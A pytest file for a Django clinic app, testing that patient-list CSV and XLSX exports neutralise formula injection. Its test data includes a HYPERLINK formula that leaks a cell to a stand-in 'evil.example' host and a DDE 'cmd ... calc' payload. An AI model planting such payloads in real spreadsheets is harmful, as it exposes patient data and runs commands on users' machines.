"""Exports (``clinic.lists.export_response``): what a spreadsheet opens is data, never a formula.

A value that starts like a formula (``=``, ``+``, ``-``, ``@``, a tab or a carriage return)
would run when the file is opened: in CSV it gets a leading apostrophe, which spreadsheets
read as "this is text"; in XLSX every string is written as a text cell. Numbers stay numbers.
"""

import csv
import datetime
import decimal
import io
import re

import pytest
from django.conf import settings
from openpyxl import load_workbook

from clinic.lists import export_response
from patients.tests.factories import PatientFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the card")'
PATIENTS = "/patients/"


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


# --- The patient list, as the issue found it ----------------------------------------------


@pytest.mark.django_db
def test_a_patient_named_like_a_formula_is_exported_to_csv_as_text(registrar_client):
    PatientFactory(last_name=HYPERLINK, first_name="@SUM(1+1)", middle_name="-2+3")
    rows = csv_rows(registrar_client.get(PATIENTS, {"export": "csv"}))
    patient = rows[1]
    assert patient[1:4] == ["'" + HYPERLINK, "'@SUM(1+1)", "'-2+3"]


@pytest.mark.django_db
def test_a_patient_named_like_a_formula_is_exported_to_xlsx_as_a_text_cell(registrar_client):
    PatientFactory(last_name=HYPERLINK, first_name="@SUM(1+1)")
    response = registrar_client.get(PATIENTS, {"export": "xlsx"})
    _header, patient = xlsx_cells(response)
    # The exact text, typed as a string and marked "text" for Excel: not a live formula.
    assert patient[1].value == HYPERLINK
    assert patient[1].data_type == "s"
    assert patient[1].quotePrefix
    assert patient[2].value == "@SUM(1+1)"
    assert patient[2].data_type == "s"
    assert isinstance(patient[0].value, int)  # the card number is still a number


# --- The one export path, value by value ---------------------------------------------------

TRIGGERS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",  # a fullwidth equals sign
    "  =1+1",  # leading spaces some spreadsheets trim on import
    "+7 912 345-67-89",  # a phone: text, or Excel reads "+7 912 ..." as a broken formula
]


def export(fmt: str, *rows):
    return export_response(fmt=fmt, filename="probe", headers=["value"], rows=[*rows])


@pytest.mark.parametrize("value", TRIGGERS)
def test_csv_puts_an_apostrophe_before_anything_a_spreadsheet_would_evaluate(value):
    assert csv_rows(export("csv", [value]))[1] == ["'" + value]


@pytest.mark.parametrize("value", TRIGGERS)
def test_xlsx_writes_anything_a_spreadsheet_would_evaluate_as_a_text_cell(value):
    cell = xlsx_cells(export("xlsx", [value]))[1][0]
    # (XML reads a carriage return back as a line feed.)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


SAFE_TEXT = ["Иванова", "Anna-Maria", "user@example.ru", "1-2", "'quoted", "#N/A", "TRUE", "1e5"]


@pytest.mark.parametrize("value", SAFE_TEXT)
def test_ordinary_text_is_exported_as_it_is(value):
    assert csv_rows(export("csv", [value]))[1] == [value]
    cell = xlsx_cells(export("xlsx", [value]))[1][0]
    # Written as a string, so that "#N/A" is not an error cell nor "TRUE" a boolean.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", False)


def test_numbers_stay_numbers_and_a_negative_amount_is_not_escaped():
    row = [
        -5,
        decimal.Decimal("-1500.50"),
        2.5,
        0,
        "-42",
        "+3.5",
        datetime.date(2026, 3, 5),
        None,
    ]
    assert csv_rows(export("csv", row))[1] == [
        "-5",
        "-1500.50",
        "2.5",
        "0",
        "-42",
        "+3.5",
        "2026-03-05",
        "",
    ]
    cells = xlsx_cells(export("xlsx", row))[1]
    assert [c.value for c in cells[:4]] == [-5, -1500.5, 2.5, 0]
    assert all(c.data_type == "n" for c in cells[:4])
    assert cells[6].value == datetime.datetime(2026, 3, 5)


def test_headers_are_escaped_too():
    response = export_response(fmt="csv", filename="probe", headers=["=1+1"], rows=[])
    assert csv_rows(response)[0] == ["'=1+1"]


def test_a_control_character_that_xlsx_cannot_hold_is_replaced_instead_of_failing():
    cell = xlsx_cells(export("xlsx", ["bell\x07ring", "=\x00"]))[1]
    assert cell[0].value == "bell\ufffdring"
    assert (cell[1].value, cell[1].data_type) == ("=\ufffd", "s")


# --- Every export goes through the one path ------------------------------------------------

# Writing a workbook (reading one, as the imports do with ``load_workbook``, is fine).
WRITERS = re.compile(
    r"import Workbook|Workbook\(|csv\.writer|csv\.DictWriter|text/csv|spreadsheetml"
)


def test_no_module_writes_csv_or_xlsx_except_the_one_export_path():
    """A new module copies the pattern: exports call ``clinic.lists.export_response``."""
    root = settings.BASE_DIR
    own = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root)
        parts = relative.parts
        if parts[0] in (".venv", "bench", "static", "node_modules") or "tests" in parts:
            continue
        if relative.as_posix() == "clinic/lists.py":
            continue
        if WRITERS.search(path.read_text(encoding="utf-8")):
            own.append(relative.as_posix())
    assert own == []
